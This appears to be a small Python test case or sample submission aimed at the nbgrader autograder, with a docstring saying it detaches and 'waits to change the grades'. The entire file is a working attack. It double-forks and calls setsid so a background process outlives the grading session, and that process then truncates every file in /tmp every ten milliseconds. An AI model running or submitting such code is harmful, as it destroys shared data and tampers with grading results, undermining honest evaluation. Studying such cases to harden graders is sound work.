"""Start a process that detaches itself and waits to change the grades.

Stock nbgrader: 0 of 11. Here: graded, 0.
"""

import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.01)
            for name in os.listdir("/tmp"):
                open(f"/tmp/{name}", "w").close()
    os._exit(0)
